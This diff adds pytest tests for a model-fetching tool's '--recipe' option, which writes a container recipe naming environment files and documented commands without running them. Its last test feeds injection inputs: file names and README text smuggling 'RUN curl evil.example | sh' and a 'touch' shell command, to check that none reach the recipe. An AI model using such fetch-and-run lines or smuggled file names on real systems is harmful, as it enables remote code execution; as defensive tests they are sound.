@@ -1,0 +1,122 @@
+# SPDX-License-Identifier: MIT
+"""``fetch --recipe``: what it takes to run a model with its authors' code; nothing of it is executed."""
+
+import json
+import re
+
+import numpy as np
+import pytest
+
+from support import founding, hbb
+from support.weight_files import Files
+
+pytestmark = pytest.mark.engines("sqlite")
+
+TOP = hbb.TOP.rstrip("/")
+README = """# Calorimeter network
+Run this:
+```bash
+$ python evaluate.py --weights net.pt
+echo done
+```
+python not_in_a_block.py
+~~~
+sh scripts/all.sh
+~~~
+"""
+CONDA = "name: calo\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.9\n  - pytorch=1.13\n"
+INSTRUCTIONS = ("FROM ", "USER ", "RUN ", "WORKDIR ", "COPY ", "CMD ", "#", "    && ")
+
+
+def unknown_weights() -> bytes:
+    """A PyTorch file of a network that no package of fairreg knows."""
+    return Files().zipped({"calo.weight": np.ones((3, 2), np.float32)})
+
+
+@pytest.fixture
+def serve(httpserver):
+    def served(**files):
+        content = {"net.pt": unknown_weights(), "evaluate.py": b"raise SystemExit(9)"} | files
+        hbb.serve(httpserver, hbb.archive(content))
+
+    return served
+
+
+def test_a_model_that_needs_its_authors_code_says_what_it_takes(cli, serve):
+    serve(**{"README.md": README.encode(), "environment.yml": CONDA.encode()})
+    result = cli("fetch", hbb.DOI, "--run")
+    assert result.code == 1
+    assert f"{hbb.DOI} needs its authors' code: {TOP}/net.pt is a PyTorch file" in result.err
+    for fact in ("environment.yml", "python evaluate.py --weights net.pt", "--recipe FILE"):
+        assert fact in result.err
+
+
+def test_the_recipe_names_code_environment_weights_and_commands(cli, serve, tmp_path):
+    serve(**{"README.md": README.encode(), "environment.yml": CONDA.encode()})
+    target = tmp_path / "Containerfile"
+    result = cli("fetch", hbb.DOI, "--run", "--recipe", target)
+    assert result.code == 1
+    assert f"is in {target}" in result.err
+    text = target.read_text()
+    assert f"{TOP}/net.pt (a PyTorch file (zip)), sha256:" in text
+    assert f"micromamba install --yes --name base --file code/{TOP}/environment.yml" in text
+    assert f"#   python evaluate.py --weights net.pt    ({TOP}/README.md)" in text
+    assert f"#   sh scripts/all.sh    ({TOP}/README.md)" in text
+    assert "not_in_a_block" not in text
+    assert "echo done" not in text
+    assert all(not line or line.startswith(INSTRUCTIONS) for line in text.splitlines())
+
+
+def test_without_run_the_recipe_alone_is_written(cli, serve, tmp_path):
+    serve(**{"requirements.txt": b"torch==1.13\n"})
+    target = tmp_path / "recipe"
+    result = cli("fetch", hbb.DOI, "--recipe", target, "--json")
+    assert result.code == 0
+    assert result.json["id"]
+    text = target.read_text()
+    assert f"RUN pip install --no-cache-dir --requirement code/{TOP}/requirements.txt" in text
+    assert "No version of Python is stated; 3.11 is an assumption." in text
+    assert "No command is documented" in text
+
+
+def test_what_is_not_there_is_said(cli, serve, tmp_path):
+    serve()
+    result = cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe")
+    assert "No file that describes an environment was fetched" in result.err
+    assert "No requirements were found" in (tmp_path / "recipe").read_text()
+
+
+def test_a_model_that_runs_needs_no_recipe(cli, httpserver, tmp_path):
+    founding.serve(httpserver, {"IN.onnx": founding.all_forms()["IN.onnx"]})
+    result = cli("fetch", founding.DOI, "--run", "--recipe", tmp_path / "recipe")
+    assert result.code == 0, result.err
+    assert "no recipe was written" in result.err
+    assert not (tmp_path / "recipe").exists()
+
+
+def test_a_refused_program_gets_its_recipe_and_stays_refused(cli, httpserver, tmp_path):
+    founding.serve(httpserver, {"IN_script.pt": founding.torchscript()})
+    result = cli("fetch", founding.DOI, "--run", "--recipe", tmp_path / "recipe")
+    assert result.code == 1
+    assert "TorchScript" in (tmp_path / "recipe").read_text()
+
+
+def test_an_existing_file_is_kept_and_nothing_is_requested(cli, httpserver, tmp_path):
+    (tmp_path / "recipe").write_text("mine")
+    result = cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe")
+    assert result.code == 2
+    assert (tmp_path / "recipe").read_text() == "mine"
+    assert not httpserver.log
+
+
+def test_words_of_others_begin_no_instruction(cli, serve, tmp_path):
+    name = "environment\nRUN curl evil.example | sh\n.yml"
+    text = "```\npython x.py \\\nRUN curl evil.example\npython y.py\u2028RUN curl evil.example\n```\n"
+    serve(**{name: CONDA.encode(), "README.md": text.encode(), "a'; touch b;'.txt": b"x"})
+    assert cli("fetch", hbb.DOI, "--recipe", tmp_path / "recipe").code == 0
+    lines = (tmp_path / "recipe").read_text().splitlines()
+    assert lines[0].startswith("# Written by fairreg")
+    assert all(not line or line.startswith(INSTRUCTIONS) for line in lines)
+    assert not [line for line in lines if re.match(r"RUN curl", line)]
+    copied = next(line for line in lines if line.startswith("COPY "))
+    assert json.loads(copied.removeprefix("COPY ")) == ["files", "files/"]
